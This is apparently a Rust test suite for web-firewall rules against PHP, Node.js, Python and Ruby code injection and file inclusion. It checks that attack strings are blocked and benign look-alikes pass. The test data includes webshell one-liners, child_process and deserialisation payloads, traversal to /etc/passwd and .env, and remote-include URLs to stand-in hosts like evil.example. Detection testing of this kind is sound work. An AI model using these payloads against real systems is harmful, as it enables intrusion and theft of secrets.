//! Round-5 rules (issue 5) for PHP / Node.js / Python / Ruby code injection, local and remote
//! file inclusion: for each new rule, attacks of the class asserted blocked *by that rule* in
//! different placements, and benign twins that share its words or characters asserted
//! allowed; then common payloads of each class (not taken from the CRS corpus) in several
//! placements.

mod common;

use common::{attack, benign, blocked};

// ---- php-109: a PHP call cut from its `(` by a comment, tab, line break or spaces ----

#[test]
fn php_109_calls_split_by_comments_and_control_whitespace() {
    attack("php-109", "query", "q", "exec\t(blah)");
    attack("php-109", "form", "cmd", "exec //x\r\n ($c)");
    attack("php-109", "json", "code", "passthru #note\n ('id')");
    attack("php-109", "cookie", "c", "fopen  (x)");
    attack("php-109", "header", "x", "FILE\r\n()");
    attack("php-109", "query", "q", "system\n($_GET[1])");
    benign("form", "notes", "Please find the file\r\n(2 pages, signed)");
    benign("json", "bio", "exec team (Dana, Lee) joins later");
    benign("query", "q", "system (recommended)");
    benign("json", "notes", "Send mail\n(to the team)");
    benign("form", "msg", "see the fopen man page  (section 3)");
    benign(
        "json",
        "notes",
        "the file  (attached) and the old system  (v2)",
    );
}

// ---- php-110: PHP-only built-ins called ----

#[test]
fn php_110_php_only_builtins() {
    attack("php-110", "query", "q", "assert_options (ASSERT_ACTIVE, 1)");
    attack("php-110", "json", "v", "escapeshellcmd($x)");
    attack("php-110", "form", "x", "php_uname()");
    attack("php-110", "cookie", "c", "getmypid()");
    attack("php-110", "header", "x", "wp_remote_get(\"http://x\")");
    benign("query", "q", "php_uname output format");
    benign("json", "title", "get current user (profile)");
    benign("form", "msg", "the mb limit (50) is too low");
    benign("json", "q", "filegroup settings");
}

// ---- php-111: php.ini directives and PHP request variables ----

#[test]
fn php_111_ini_directives_and_request_variables() {
    attack(
        "php-111",
        "query",
        "q",
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
    );
    attack("php-111", "form", "x", "allow_url_fopen = On");
    attack("php-111", "json", "cfg", "disable_functions=");
    attack("php-111", "cookie", "c", "$HTTP_RAW_POST_DATA");
    attack("php-111", "header", "x", "print_r($GLOBALS)");
    attack(
        "php-111",
        "query_raw",
        "",
        "auto_prepend_file=http://evil.example/x.txt",
    );
    benign("query", "q", "why is allow url include off");
    benign("json", "msg", "the safe mode toggle = on");
    benign(
        "form",
        "notes",
        "globals are evil, said the reviewer ($5 bet)",
    );
    benign("query", "q", "the -d flag sets name=alice");
}

// ---- code-109: Node.js module loading, Function constructor, vm, *Sync, process ----

#[test]
fn code_109_node_apis() {
    attack(
        "code-109",
        "json",
        "v",
        "import('child_process').then(m=>m.exec('id'))",
    );
    attack(
        "code-109",
        "query",
        "q",
        "require('node:fs').readFileSync('/x')",
    );
    attack(
        "code-109",
        "form",
        "x",
        "[].constructor.constructor('return 1')()",
    );
    attack("code-109", "cookie", "c", "Function('return process')()");
    attack("code-109", "header", "x", "vm.runInNewContext('1+1')");
    attack("code-109", "json", "v", "execSync('id')");
    attack("code-109", "query", "q", "process.exit(1)");
    attack(
        "code-109",
        "json",
        "v",
        "eval(Buffer.from('aWQ=','base64').toString())",
    );
    benign("json", "msg", "import the constructor function (see docs)");
    benign("query", "q", "how to exit the process safely");
    benign("form", "msg", "the function returns a value (return type)");
    benign("json", "msg", "node: version 20 required");
}

// ---- code-110: scripting-language deserialisation payloads ----

#[test]
fn code_110_deserialisation_tags() {
    attack(
        "code-110",
        "json",
        "yaml",
        "!!python/object/apply:os.system ['id']",
    );
    attack(
        "code-110",
        "form",
        "x",
        "--- !ruby/object:Gem::Installer\ni: x",
    );
    attack(
        "code-110",
        "query",
        "q",
        "!!js/function 'function(){return 1}'",
    );
    attack(
        "code-110",
        "json_raw",
        "",
        r#"{"py/reduce": [{"py/function": "os.system"}, ["id"]]}"#,
    );
    attack("code-110", "form", "data", "cos\nsystem\n(S'id'\ntR.");
    attack(
        "code-110",
        "header",
        "x",
        "Marshal.load(Base64.decode64(x))",
    );
    benign("json", "yaml", "python: 3.12\nruby: 3.3\n");
    benign("form", "x", "tags: !important for CSS");
    benign("query", "q", "cos\nsin\ntan");
    benign("json", "msg", "the marshal loaded the cargo");
}

// ---- lfi-111: a parent step into a dotfile ----

#[test]
fn lfi_111_parent_step_into_dotfiles() {
    attack("lfi-111", "query", "file", "../.env");
    attack("lfi-111", "json", "path", "..\\.git\\config");
    attack("lfi-111", "cookie", "tpl", "../.bash_history");
    attack("lfi-111", "form", "f", "../.htpasswd");
    benign("query", "path", "../images/logo.png");
    benign("json", "msg", "go up one level (..) then open .env.example");
}

// ---- rfi-002 / rfi-108 / rfi-109: remote include targets ----

#[test]
fn rfi_002_base_directory_parameters_given_a_url() {
    attack(
        "rfi-002",
        "query",
        "mosConfig_absolute_path",
        "http://evil.example/x",
    );
    attack(
        "rfi-002",
        "form",
        "GALLERY_BASEDIR",
        "https://evil.example/",
    );
    attack("rfi-002", "query", "path[docroot]", "ftp://evil.example/");
    attack("rfi-002", "json", "root_dir", "http://evil.example/inc/");
    benign("query", "root_dir", "/srv/app");
    benign("json", "base_url", "https://cdn.example.com/assets/");
    benign("form", "docroot", "public_html");
}

#[test]
fn rfi_108_ip_literal_urls_with_an_include_parameter() {
    attack("rfi-108", "query", "page", "http://203.0.113.9/");
    attack("rfi-108", "form", "file", "ftp://198.51.100.7/x");
    attack("rfi-108", "json", "template", "https://[2001:db8::1]/t");
    benign("query", "redirect_uri", "https://8.8.8.8/dns-query");
    benign("json", "webhook", "http://203.0.113.9:8080/hook");
}

#[test]
fn rfi_109_bare_scheme_with_truncation() {
    attack("rfi-109", "query", "x", "http?");
    attack("rfi-109", "form", "x", "file:x??");
    attack("rfi-109", "json", "x", "ftps?");
    benign("query", "q", "http or https?");
    benign("json", "q", "is this file safe?");
}

// ---- php-101 / php-106 / lfi-003 / code-106 extensions ----

#[test]
fn round5_extensions_of_existing_rules() {
    attack("php-101", "query", "q", "x[\\php]phpinfo()[/php]");
    attack("php-101", "form", "x", "test<?");
    attack("php-106", "query", "x", "(['system'])[0]('uname');");
    attack("php-106", "json", "x", "(string) {[system][0]} ('uname');");
    attack("code-106", "cookie", "c", "XyQkTkRfRlVOQyQkXwo=");
    attack("code-106", "query", "q", "XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK");
    benign("query", "q", "is x <? y");
    benign("json", "msg", "see [system] settings then [0] (first)");
    benign("cookie", "c", "SGVsbG8gV29ybGQhIEhvdyBhcmUgeW91Pw==");
}

// ---- common payloads of each class, several placements ----

const PLACEMENTS: &[&str] = &["query", "form", "json", "cookie", "header"];

fn all_placements(field: &str, payloads: &[&str]) {
    for p in payloads {
        for pl in PLACEMENTS {
            blocked(pl, field, p);
        }
    }
}

#[test]
fn php_webshell_payloads_are_blocked_everywhere() {
    all_placements(
        "cmd",
        &[
            "<?php system($_GET['cmd']); ?>",
            "<?=`$_GET[0]`?>",
            "eval($_POST['x']);",
            "assert($_REQUEST['c']);",
            "preg_replace('/.*/e', $_GET['c'], '')",
            "${@eval($_POST[1])}",
            "shell_exec('id');",
            "passthru('cat /etc/passwd');",
            "create_function('', $_GET['f'])",
            "array_map('system', array('id'))",
            "call_user_func('system', 'id')",
            "file_put_contents('s.php', base64_decode($_POST['d']))",
            "eval(gzinflate(base64_decode('s0ktzshX')))",
            "proc_open('id', array(), $p)",
        ],
    );
}

#[test]
fn lfi_payloads_are_blocked_everywhere() {
    all_placements(
        "file",
        &[
            "../../../../etc/passwd",
            "....//....//....//etc/passwd",
            "..%252f..%252f..%252fetc%252fpasswd",
            "%2e%2e%2f%2e%2e%2fetc%2fshadow",
            "..\\..\\..\\windows\\win.ini",
            "/etc/passwd%00.jpg",
            "php://filter/convert.base64-encode/resource=index.php",
            "php://filter/read=string.rot13/resource=config.php",
            "file:///etc/passwd",
            "expect://id",
            "zip://uploads/avatar.jpg%23shell.php",
            "phar://./uploads/x.jpg/test.txt",
            "/proc/self/environ",
            "C:\\Windows\\System32\\drivers\\etc\\hosts",
            "../../../var/log/apache2/access.log",
            "../.env",
        ],
    );
}

#[test]
fn rfi_payloads_are_blocked_everywhere() {
    all_placements(
        "page",
        &[
            "http://evil.example/shell.txt?",
            "http://evil.example/shell.php%00",
            "http://203.0.113.9/x.php",
            "ftp://evil.example/payload.txt",
            "\\\\203.0.113.9\\share\\shell.php",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
            "php://input",
            "include('http://evil.example/x.txt');",
            "http://evil.example/c99.php",
            "https://evil.example/x.txt??",
        ],
    );
    // Include-named parameters with a remote URL to a text file or an IP host.
    blocked("query", "page", "http://evil.example/x.txt");
    blocked("form", "include", "http://203.0.113.9/");
    blocked("query", "mosConfig_absolute_path", "http://evil.example/");
}

#[test]
fn node_and_prototype_pollution_payloads_are_blocked_everywhere() {
    all_placements(
        "v",
        &[
            "require('child_process').exec('id')",
            "global.process.mainModule.require('child_process').execSync('id')",
            "process.mainModule.constructor._load('child_process')",
            "this.constructor.constructor('return process')()",
            "new Function('return this')()",
            "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
            "__proto__[isAdmin]=true",
            "constructor[prototype][isAdmin]=true",
            "import('child_process')",
            "require('node:child_process').spawn('sh')",
            "__import__('os').system('id')",
            "!!python/object/apply:os.system ['id']",
        ],
    );
    blocked("json_raw", "", r#"{"__proto__": {"isAdmin": true}}"#);
    blocked(
        "json_raw",
        "",
        r#"{"constructor": {"prototype": {"polluted": 1}}}"#,
    );
    blocked("query_raw", "", "__proto__[polluted]=1");
    blocked("query_raw", "", "a[constructor][prototype][polluted]=1");
}

// ---- php-112: strings built with chr() concatenation ----

#[test]
fn php_112_chr_concatenation() {
    attack("php-112", "query", "q", "chr(115).chr(121).chr(115)");
    attack("php-112", "json", "v", "$f = chr(0x73) . chr(0x79);");
    attack("php-112", "cookie", "c", "CHR(101).CHR(118)");
    benign("query", "q", "the chr function. chr codes");
    benign("json", "msg", "use chr() helpers. chr values vary");
}

// ---- round-5 extensions of code-102 / code-105 / lfi-103 / lfi-110 ----

#[test]
fn round5_prototype_loop_session_and_hex_extensions() {
    attack("code-102", "query", "q", "Object.prototype.isAdmin=true");
    attack(
        "code-102",
        "json",
        "v",
        r#"{"constructor":{"prototype":{"admin":1}}}"#,
    );
    attack("code-102", "form", "x", "({}).__defineGetter__('x', f)");
    attack(
        "code-111",
        "json_raw",
        "",
        r#"{"a": {"constructor": {"prototype": {"x": 1}}}}"#,
    );
    attack("code-105", "cookie", "c", "for(;;){}");
    attack("code-105", "header", "x", "for ( ; ; );");
    attack("lfi-103", "query", "f", "/var/lib/php/sessions/sess_abc123");
    attack("lfi-103", "json", "f", "/tmp/sess_0123456789abcdef");
    attack("lfi-110", "form", "f", "..0x2f..0x2fetc0x2fpasswd");
    benign("json", "msg", "Object.prototype.toString is handy");
    benign("json", "q", "for (;;) loops spin; see for(;;) docs");
    benign(
        "json_raw",
        "",
        r#"{"constructor": {"name": "Ada"}, "prototype": {"v": 2}}"#,
    );
    benign("json", "f", "/tmp/session_notes.txt");
}

// ---- code-112: Ruby / Perl / Python process execution ----

#[test]
fn code_112_ruby_perl_process_calls() {
    attack("code-112", "query", "q", "Open3.capture2(\"id\")");
    attack("code-112", "json", "v", "send(:system, 'id')");
    attack("code-112", "form", "x", "qx(id)");
    attack("code-112", "cookie", "c", "Kernel.exec('id')");
    attack("code-112", "header", "x", "pty.spawn('/bin/bash')");
    attack("code-112", "json", "v", "instance_eval(\"`id`\")");
    benign("query", "q", "send the system report to ops");
    benign("json", "msg", "the kernel system call table (x86)");
    benign("form", "x", "qx and qy axes");
    benign("json", "msg", "use %x for hex output");
}

// ---- php-110: distinctive PHP names called or sent alone ----

#[test]
fn php_110_reflection_and_bare_names() {
    attack("php-110", "query", "q", "new ReflectionFunction('system')");
    attack("php-110", "json", "v", "phpinfo");
    attack("php-110", "form", "x", "base64_decode;");
    attack("php-110", "cookie", "c", "__halt_compiler();");
    benign("query", "q", "phpinfo page shows the version");
    benign("json", "msg", "reflection function docs");
}

#[test]
fn php_111_more_directives() {
    attack("php-111", "query", "q", "display_errors=1");
    attack("php-111", "form", "x", "session.save_path = /var/www/html");
    attack("php-111", "json", "v", "error_log=/var/www/html/x.php");
    benign("query", "q", "display errors on the page");
    benign("json", "msg", "error log == empty");
}

// ---- lfi-112: a path to a secret dotfile or WEB-INF as the whole value ----

#[test]
fn lfi_112_secret_dotfiles_as_whole_values() {
    attack("lfi-112", "query", "file", ".env");
    attack("lfi-112", "json", "path", "/app/.env.production");
    attack("lfi-112", "form", "f", ".git/config");
    attack("lfi-112", "cookie", "tpl", "WEB-INF/web.xml");
    attack("lfi-112", "header", "x", "../../.htpasswd");
    benign("query", "q", "copy .env.example to .env before starting");
    benign("json", "msg", "edit WEB-INF/web.xml and restart Tomcat");
    benign("form", "f", "config/environment.rb");
    benign("json", "ext", ".envelope");
}

// ---- round-5 extensions of lfi-103 / lfi-105 / lfi-109 ----

#[test]
fn round5_lfi_extensions() {
    attack("lfi-103", "query", "file", "etc/passwd");
    attack("lfi-103", "json", "f", "x=etc/shadow");
    attack("lfi-105", "form", "f", "php:filter/resource=index.php");
    attack("lfi-109", "cookie", "f", "/dev/fd/0");
    attack("lfi-109", "query", "f", "/dev/mem");
    benign("query", "q", "etc/passwords are stored hashed");
    benign("json", "log", "/dev/stdout");
    benign("form", "msg", "php: filters and inputs explained");
}

#[test]
fn rfi_110_ftp_and_file_urls_to_ip_hosts() {
    attack("rfi-110", "query", "x", "ftp://198.51.100.7/");
    attack("rfi-110", "xml", "tag", "ftp%3A%2F%2F198.51.100.7");
    attack("rfi-110", "json", "src", "file://203.0.113.9/share/x");
    attack(
        "rfi-110",
        "cookie",
        "c",
        "ftp://anonymous:x@198.51.100.7/pub",
    );
    benign("query", "mirror", "ftp://ftp.example.org/pub/");
    benign("json", "doh", "https://8.8.8.8/dns-query");
}

// ---- code-113: a whole value that is one Node.js process / console expression ----

#[test]
fn code_113_node_global_probes() {
    attack("code-113", "query", "q", "process.env");
    attack("code-113", "json", "v", "process.mainModule.filename");
    benign("json", "v", "process.env.NODE_ENV");
    attack("code-113", "form", "x", "console.info(1)");
    attack("code-113", "cookie", "c", "console.log.call(this,1)");
    attack("code-113", "header", "x", "process.argv[1]");
    benign("query", "q", "process.env is undefined in the browser");
    benign(
        "json",
        "msg",
        "use console.log(x) while debugging, then remove it",
    );
    benign("form", "step", "process environment");
    benign("json", "tag", "console");
}
